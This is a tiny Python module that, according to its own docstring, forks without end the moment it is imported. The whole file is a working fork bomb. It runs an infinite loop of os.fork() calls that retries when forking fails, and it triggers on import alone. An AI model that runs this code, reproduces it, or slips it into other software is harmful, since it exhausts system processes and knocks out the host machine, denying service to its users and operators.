"""Forks without end the moment it is imported."""

import os

while True:
    try:
        os.fork()
    except OSError:
        continue
